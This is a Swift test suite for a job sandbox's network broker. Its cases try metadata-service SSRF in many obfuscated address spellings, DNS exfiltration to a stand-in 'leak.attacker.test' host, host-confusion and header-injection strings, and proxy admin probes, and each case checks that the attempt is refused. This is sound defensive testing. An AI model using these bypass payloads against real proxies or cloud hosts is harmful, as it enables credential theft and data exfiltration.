import Foundation
import Jobs
import TestKit

/// What a job with grants tries at their doors and around them. The control of each is in the same program: what is granted is
/// reached by the same words.
enum EgressCases {
  static let all: [AttackCase] =
    [nw02, nw03, nw05, nw06, nw10, nw11, nw12, nw13, nw26, nw27] + RequestLineCases.all + [nw39]

  /// - Parameters:
  ///   - mark: the beginning of the program's first argument, by which its requests are told from others'.
  ///   - words: its other arguments.
  static func egress(
    _ id: String, _ what: String, grants: [String], _ text: String,
    mark: String? = nil, words: [String] = [],
    expect: @escaping @Sendable (Evidence, inout Verdict) async throws -> Void
  ) -> AttackCase {
    AttackCase(
      id: id, what: what, payload: .egress(text),
      arguments: { place in (mark.map { [$0 + place.mark] } ?? []) + words }, asks: Granted.asks(grants),
      expect: { evidence, verdict in
        verdict.outcome(evidence, "succeeded")
        try await expect(evidence, &verdict)
      }, control: .within)
  }

  /// How many of the broker's lines are refusals, and that what was asked for by name was asked of no name server.
  static func refused(
    _ evidence: Evidence, _ verdict: inout Verdict, atLeast count: Int, unasked names: [String] = []
  ) async throws {
    let denials = try await evidence.ledger().denials
    verdict.require(denials.count >= count, "\(denials.count) refusals stand in the ledger, not \(count): \(denials)")
    let seen = evidence.upstream.seen().split(separator: "\n")
    for name in names {
      verdict.require(
        !seen.contains { $0.hasPrefix("name ") && $0.contains(name) }, "a name server was asked for \(name)")
    }
  }

  private static let nw02 = egress(
    "NW-02", "the cloud's metadata service, directly and by a granted name that leads there",
    grants: ["metadata", "opaque"],
    """
    direct("direct", "169.254.169.254", 80)
    direct("aws in IPv4 of ECS", "169.254.170.2", 80)
    note("by name", said(("metadata.internal", 80), b"GET /latest/meta-data/ HTTP/1.1\\r\\nHost: metadata.internal\\r\\n\\r\\n"))
    connect("by tunnel", "metadata.internal:80")
    connect("control", "other.internal:443")
    """
  ) { evidence, verdict in
    verdict.met(evidence, ["direct", "aws in IPv4 of ECS"], "ENETUNREACH")
    verdict.met(evidence, ["by name"], "closed", "ECONNRESET")
    verdict.met(evidence, ["control"], "200")
    let ledger = try await evidence.ledger()
    let denials = ledger.denials.filter { $0.contains("no address of metadata.internal may be dialled") }
    verdict.equal(denials.count, 2, "refusals of the address: \(ledger.denials)")
    verdict.require(!ledger.allowed.contains("metadata"), "the metadata service was dialled")
  }

  /// Spellings of the address, and of names that lead to it.
  private static let spellings = [
    "169.254.169.254", "169.254.169.254.", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]",
    "[0:0:0:0:0:ffff:a9fe:a9fe]", "[::169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[64:ff9b:1::a9fe:a9fe]",
    "[2002:a9fe:a9fe::1]", "[fd00:ec2::254]", "[fe80::a9fe:a9fe%25eth0]", "0xA9FEA9FE", "0xa9.0xfe.0xa9.0xfe",
    "2852039166", "025177524776", "0251.0376.0251.0376", "169.254.43518", "169.16689662", "0251.254.0xa9.254",
    "169.254.169.254.nip.io", "a9fea9fe.nip.io", "metadata.google.internal", "instance-data.ec2.internal",
    "\u{FF11}69.254.169.254", "169\u{3002}254\u{3002}169\u{3002}254", "\u{2460}69.254.169.254", "%31%36%39.254.169.254",
    "169.254.169.254%00.internal", "user@169.254.169.254", "other.internal@169.254.169.254",
    "other.internal#@169.254.169.254", "169.254.169.254#.other.internal", "169.254.169.254\\.other.internal",
  ]

  private static let nw03 = egress(
    "NW-03", "the metadata service in every spelling, by tunnel, by URL and directly", grants: ["opaque", "plain"],
    """
    for number, place in enumerate(sys.argv[1:]):
        connect(f"tunnel {place}", place + ":80")
        connect(f"tunnel to TLS {place}", place + ":443")
        proxied(f"url {place}", place, "/latest/meta-data/")
        direct(f"direct {place}", place.strip("[]"), 80)
    connect("control", "other.internal:443")
    proxied("control of urls", "index.internal:81", "/simple/metadata")
    """, words: spellings
  ) { evidence, verdict in
    verdict.metAll(evidence, prefix: "tunnel ", "403", "400")
    verdict.metAll(evidence, prefix: "url ", "403", "400")
    verdict.metAll(evidence, prefix: "direct ", "ENETUNREACH", "no name", "EPERM")
    verdict.equal(evidence.seen.count, spellings.count * 4 + 2, "attempts")
    verdict.met(evidence, ["control", "control of urls"], "200")
    try await refused(
      evidence, &verdict, atLeast: spellings.count * 3, unasked: ["169", "nip.io", "google", "ec2", "a9fe"])
    // A tunnel counts once its client has said whom it means.
    verdict.equal(try await evidence.ledger().allowed, ["plain"], "what was allowed")
  }

  private static let nw05 = egress(
    "NW-05", "name servers: UDP and TCP 53, DNS over TLS, DNS over HTTPS", grants: ["opaque"],
    """
    servers = ["8.8.8.8", "1.1.1.1", "9.9.9.9", "127.0.0.53", sys.argv[1]]
    for server in servers:
        def ask():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one: one.sendto(b"\\0" * 17, (server, 53))
        attempt(f"udp {server}", ask)
        for port in (53, 853, 443): direct(f"tcp {server} {port}", server, port)
        for port in (53, 853, 443): connect(f"tunnel {server} {port}", f"{server}:{port}")
    for name in ("dns.google", "cloudflare-dns.com", "one.one.one.one"):
        connect(f"tunnel {name}", name + ":443")
        proxied(f"url {name}", name, "/dns-query?dns=AAABAAAB")
        try:
            socket.getaddrinfo(name, 443)
            note(f"resolve {name}", "ok")
        except socket.gaierror: note(f"resolve {name}", "no name")
    connect("control", "other.internal:443")
    """, words: [nameServer]
  ) { evidence, verdict in
    verdict.metAll(evidence, prefix: "udp ", "EPERM")
    // Addresses of 127.0.0.0/8 are the cell's own, where nobody listens.
    verdict.metAll(evidence, prefix: "tcp ", "ENETUNREACH", "ECONNREFUSED")
    verdict.metAll(evidence, prefix: "tunnel ", "403")
    verdict.metAll(evidence, prefix: "url ", "403")
    verdict.metAll(evidence, prefix: "resolve ", "no name")
    verdict.met(evidence, ["control"], "200")
    try await refused(evidence, &verdict, atLeast: 21, unasked: ["dns.google", "cloudflare", "one.one"])
  }

  private static let nameServer = (try? Granted.upstream.get().network + ".53") ?? "127.0.0.1"

  private static let nw06 = egress(
    "NW-06", "carry data out in a name: no name server is asked before a grant is found", grants: ["asked", "opaque"],
    """
    import base64
    data = sys.argv[1] + ".leak.attacker.test"
    connect("tunnel", data + ":443")
    connect("tunnel of a subdomain", f"{sys.argv[1]}.asked.attacker.test:443")
    proxied("url", data)
    try: socket.getaddrinfo(data, 443); note("resolve", "ok")
    except socket.gaierror: note("resolve", "no name")
    ask("host of a door", PROXY, "GET / HTTP/1.1", f"Host: {data}")
    # The control: a granted name is asked for, once the tunnel's client has said which.
    context = ssl.create_default_context()
    try:
        with socket.create_connection(("asked.attacker.test", 443), timeout=10) as one:
            context.wrap_socket(one, server_hostname="asked.attacker.test")
    except OSError: pass
    """, mark: "d"
  ) { evidence, verdict in
    verdict.met(evidence, ["tunnel", "tunnel of a subdomain", "url"], "403")
    verdict.met(evidence, ["host of a door"], "400", "403")
    verdict.met(evidence, ["resolve"], "no name")
    let data = "d" + evidence.place.mark
    try await refused(evidence, &verdict, atLeast: 4, unasked: [data])
    verdict.require(
      evidence.upstream.seen().contains("name asked.attacker.test\n"),
      "control: no server was asked for the granted name")
  }

  private static let nw10 = egress(
    "NW-10", "leave the doors aside and connect to the servers themselves", grants: ["opaque", "index"],
    """
    for address in sys.argv[1:]: direct(f"local {address}", address, 443)
    for address in ("1.1.1.1", "10.0.0.1", "172.17.0.1", "192.168.0.1", "100.100.100.200", "93.184.215.14"):
        for port in (80, 443): direct(f"host {address} {port}", address, port)
    with open("/proc/self/net/dev") as file:
        note("interfaces", sorted(line.split(":")[0].strip() for line in file if ":" in line))
    direct("control", "other.internal", 443)
    """, words: ["1", "2", "3", "4"].map { network + "." + $0 }
  ) { evidence, verdict in
    verdict.metAll(evidence, prefix: "local ", "ECONNREFUSED")
    verdict.metAll(evidence, prefix: "host ", "ENETUNREACH")
    verdict.equal(evidence.seen["interfaces"], .array([.string("lo")]), "interfaces")
    verdict.met(evidence, ["control"], "ok")
    let outside = try await HostCommand.run("exec 3<>/dev/tcp/$1/443 && echo there", network + ".2")
    verdict.equal(outside.output, "there\n", "control: the server itself, from the host")
  }

  private static let network = (try? Granted.upstream.get().network) ?? ""

  private static let nw11 = egress(
    "NW-11", "a tunnel to an address instead of a name", grants: ["opaque"],
    """
    places = [sys.argv[1] + ".2", "127.0.0.1", "127.0.0.2", "127.1", "0", "0.0.0.0", "[::1]", "[::]",
              "[::ffff:127.0.0.1]", "1.1.1.1", "10.0.0.1", "192.168.0.1", "0x7f000001", "2130706433", "localhost"]
    for place in places:
        connect(f"tunnel {place}", place + ":443")
        proxied(f"url {place}", place + ":443")
    connect("control", "other.internal:443")
    """, words: [network]
  ) { evidence, verdict in
    verdict.metAll(evidence, prefix: "tunnel ", "403", "400")
    verdict.metAll(evidence, prefix: "url ", "403", "400")
    verdict.met(evidence, ["control"], "200")
    try await refused(evidence, &verdict, atLeast: 30, unasked: ["localhost"])
  }

  private static let nw12 = egress(
    "NW-12", "another port of a host that is granted", grants: ["opaque", "plain"],
    """
    for port in (0, 1, 22, 25, 80, 81, 442, 444, 3128, 5432, 8443, 65535):
        connect(f"tunnel {port}", f"other.internal:{port}")
        proxied(f"url {port}", f"other.internal:{port}")
        direct(f"direct {port}", "other.internal", port)
    for spelled in ("65979", "-1", "443443", "0443x", "443 ", "", "0x1bb", "+443"):
        connect(f"tunnel {spelled!r}", f"other.internal:{spelled}")
    connect("control", "other.internal:443")
    """
  ) { evidence, verdict in
    verdict.metAll(evidence, prefix: "tunnel ", "403", "400")
    verdict.metAll(evidence, prefix: "url ", "403", "400")
    verdict.metAll(evidence, prefix: "direct ", "ECONNREFUSED", "EADDRNOTAVAIL")
    verdict.met(evidence, ["control"], "200")
    try await refused(evidence, &verdict, atLeast: 32)
  }

  private static let nw13 = egress(
    "NW-13", "hosts that two readers take for different ones", grants: ["opaque", "plain"],
    """
    right = "other.internal"
    hostile = ["evil.test\\0.other.internal", "other.internal\\0.evil.test", "other.internal\\r\\nHost: evil.test",
               "other.internal\\nX: y", " other.internal", "other.internal ", "other.internal\\t", "evil.test other.internal",
               "user@other.internal", "user:word@other.internal", "other.internal@evil.test", "evil.test#other.internal",
               "other.internal#", "other.internal?", "other.internal/", "evil.test\\\\@other.internal", "other.internal..",
               ".other.internal", "other..internal", "xn--other-.internal", "other.inte\\u0440nal", "\\uff4fther.internal",
               "other\\u3002internal", "other.internal\\u200b", "other%2einternal", "o" * 64 + ".internal", "o." * 2048 + "internal",
               "*.internal", "*", "[other.internal]", "other.internal:443", "other_internal", "-other.internal"]
    for place in hostile:
        connect(f"tunnel {ascii(place)[:60]}", place + ":443")
        proxied(f"url {ascii(place)[:60]}", place + ":81")
    for place in ("OTHER.INTERNAL", "other.internal."): connect(f"same {place}", place + ":443")
    connect("control", right + ":443")
    """
  ) { evidence, verdict in
    verdict.metAll(evidence, prefix: "tunnel ", "403", "400", "431")
    verdict.metAll(evidence, prefix: "url ", "403", "400", "431")
    // One canonical form is compared, resolved and dialled: what is taken for the same host is named as that in the ledger.
    verdict.metAll(evidence, prefix: "same ", "200", "400", "403")
    verdict.met(evidence, ["control"], "200")
    let ledger = try await evidence.ledger()
    for line in ledger where line["decision"] == .string("allowed") {
      verdict.equal(line["endpoint"]?.string, "other.internal:443", "an endpoint that was allowed")
    }
    verdict.require(ledger.denials.count >= 60, "\(ledger.denials.count) refusals stand in the ledger")
  }

  private static let nw26 = egress(
    "NW-26", "pages of the proxy itself: administration, figures, policy", grants: ["plain"],
    """
    for path in ("/", "/metrics", "/admin", "/policy", "/healthz", "/config", "/debug/pprof/", "/proxy.pac", "/ca.pem"):
        ask(f"plain {path}", PROXY, f"GET {path} HTTP/1.1", "Host: 127.0.0.1:3128")
        proxied(f"url {path}", "127.0.0.1:3128", path)
        proxied(f"url of a name {path}", "proxy.internal", path)
    for method in ("OPTIONS", "TRACE", "PURGE", "CONNECT", "POST"):
        ask(f"method {method}", PROXY, f"{method} * HTTP/1.1", "Host: 127.0.0.1:3128", "Max-Forwards: 0")
    for hello in (b"\\x05\\x01\\x00", b"\\x04\\x01\\x01\\xbb\\x01\\x01\\x01\\x01x\\x00", b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"):
        note(f"protocol {hello[:3]!r}", said(PROXY, hello + b"\\r\\n\\r\\n"))
    connect("itself", "127.0.0.1:3128")
    proxied("control", "index.internal:81", "/simple/pages")
    """
  ) { evidence, verdict in
    for prefix in ["plain ", "url ", "method ", "protocol ", "itself"] {
      verdict.metAll(evidence, prefix: prefix, "400", "403", "405", "501", "505", "closed", "ECONNRESET")
    }
    verdict.met(evidence, ["control"], "200")
    verdict.equal(try await evidence.ledger().allowed, ["plain"], "what was allowed")
  }

  private static let nw27 = egress(
    "NW-27", "use what another job was granted, at its door and by its proxy", grants: ["raw"],
    """
    for address in ("127.0.0.2", "127.0.0.3", "127.0.0.4"):
        for port in (443, 80, 81): direct(f"door {address} {port}", address, port)
    connect("tunnel", "other.internal:443")
    proxied("url", "index.internal:81", "/simple/of-the-other")
    direct("name", "other.internal", 443)
    connect("control", "raw.internal:7")
    """
  ) { evidence, verdict in
    verdict.metAll(evidence, prefix: "door ", "ECONNREFUSED")
    verdict.met(evidence, ["tunnel", "url"], "403")
    verdict.met(evidence, ["name"], "no name")
    verdict.met(evidence, ["control"], "200")
    try await refused(evidence, &verdict, atLeast: 2)
    // The other one: what it is granted is there for it, and the same doors beside it are not the first one's.
    let specification = try Payload.egress(
      """
      connect("tunnel", "other.internal:443")
      proxied("url", "index.internal:81", "/simple/of-the-other")
      """
    ).specification([], label: "NW-27", asks: Granted.asks(["opaque", "plain"]))
    let other = try await evidence.house!.evidence(specification, evidence.place)
    verdict.met(other, ["tunnel", "url"], "200")
    let ledger = try await other.ledger()
    verdict.require(ledger.denials.isEmpty && !ledger.allowed.isEmpty, "the other's ledger: \(ledger.denials)")
  }

  private static let nw39 = FleetCases.fleetCase("NW-39", "kill the worker, and with it the broker") { place, verdict in
    let upstream = try Granted.upstream.get()
    try await FleetCases.withHouse(&verdict, options: FleetCases.lease, upstream: upstream) { house, verdict in
      let mark = "/simple/orphan-" + place.mark
      let payload = Payload.bash(
        """
        (exec sleep "$1") &
        while :; do curl -s -m 2 -o /dev/null "http://index.internal:81$2"; sleep 0.05; done
        """)
      _ = try await house.enqueue(
        payload.specification([place.marker.text, mark], label: "NW-39", asks: Granted.asks(["plain"])))
      func asked() -> Int { upstream.seen().components(separatedBy: mark).count - 1 }
      try await eventually("control: it asks", limit: .seconds(30)) { asked() > 2 }
      // A warden that stands still ends no cell, so that the job outlives its broker.
      let wardens = house.wardens()
      for warden in wardens { kill(warden, SIGSTOP) }
      house.worker.signal(SIGKILL)
      _ = try await house.worker.answer()
      let then = asked()
      // A time in which it would ask often: there is nothing to wait for where nothing happens.
      try await Task.sleep(for: .seconds(1))
      verdict.require(place.marker.exists, "control: the job is over, and has shown nothing")
      verdict.require(asked() <= then + 1, "it asked \(asked() - then) times without a broker")
      for warden in wardens { kill(warden, SIGCONT) }
      do {
        try await eventually("the cell is dead", limit: CleanHost.limit) { !place.marker.exists }
      } catch { verdict.fail("the cell outlived its worker") }
    }
  }
}
